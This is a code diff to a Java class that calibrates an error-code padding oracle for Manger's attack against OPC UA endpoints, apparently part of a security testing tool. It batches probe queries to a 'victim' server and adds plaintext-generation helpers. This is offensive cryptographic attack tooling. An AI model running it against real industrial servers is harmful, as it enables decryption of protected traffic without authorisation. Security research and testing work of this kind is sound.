@@ -4,6 +4,7 @@ import attacks.manger.MangerUtility;
 import attacks.manger.oracle.DistinguishableErrorOracle;
 import attacks.manger.oracle.Oracle;
 import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.QueryScheduler;
 import attacks.manger.oracle.VictimProxy;
 import opcua.context.Endpoint;
 import opcua.context.LocalKeyPair;
@@ -19,6 +20,8 @@ import transport.TransportException;
 import transport.tcp.TcpClientUtil;
 
 import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
 
 /**
  * Learner that tries to construct an oracle for Manger's attack, which distinguishes different error codes.
@@ -61,10 +64,11 @@ public class ErrorCodeOracleLearner implements OracleLearner {
         try {
             byte[] validCipherText = SecureChannelUtil.generateEncryptedOpnRequest(endpoint, localKeyPair);
             VictimProxy victimProxy = new VictimProxy(endpoint, validCipherText);
+            victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.CALIBRATION);
 
             long errorCodeLessB = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey())).getResponse()).getError();
-            for (int i=0; i<numberOfVerifications; i++) {
-                if(((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey())).getResponse()).getError() != errorCodeLessB) {
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generatePlaintextsLessB(endpoint), Oracle.defaultExecutor())) {
+                if(((ErrorMessage)queryResult.getResponse()).getError() != errorCodeLessB) {
                     return createFailureResult("Server responded with multiple error codes for \"<B\"");
                 }
             }
@@ -73,13 +77,15 @@ public class ErrorCodeOracleLearner implements OracleLearner {
             if (errorCodeLessB == errorCodeGeqB) {
                 return createFailureResult("Server responded with equal error codes for \"<B\" and \">=B\" (\"" + Long.toHexString(errorCodeLessB) + "\")");
             }
-            for (int i=0; i<numberOfVerifications; i++) {
-                if(((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextGeqB(endpoint.getPublicKey())).getResponse()).getError() != errorCodeGeqB) {
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generatePlaintextsGeqB(endpoint), Oracle.defaultExecutor())) {
+                if(((ErrorMessage)queryResult.getResponse()).getError() != errorCodeGeqB) {
                     return createFailureResult("Server responded with error codes for \">=B\"");
                 }
             }
 
-            Oracle oracle = new DistinguishableErrorOracle(endpoint, (ErrorMessage e) -> e.getError() == errorCodeLessB, validCipherText);
+            DistinguishableErrorOracle oracle = new DistinguishableErrorOracle(endpoint, (ErrorMessage e) -> e.getError() == errorCodeLessB, validCipherText);
+            // The decision only depends on the error code
+            oracle.setHeaderOnly(true);
             Entry report = new Group("ErrorCodeOracleLearner")
                     .addSubEntry(new ValueEntry<>("Successful", true))
                     .addSubEntry(new ValueEntry<>("Error Code for \"<B\"", errorCodeLessB))
@@ -92,6 +98,22 @@ public class ErrorCodeOracleLearner implements OracleLearner {
         }
     }
 
+    private List<byte[]> generatePlaintextsLessB(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
+    private List<byte[]> generatePlaintextsGeqB(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(MangerUtility.generatePlaintextGeqB(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
     private static LearningResult createFailureResult(String reason) {
         Entry report = new Group("ErrorCodeOracleLearner")
                 .addSubEntry(new ValueEntry<>("Successful", false))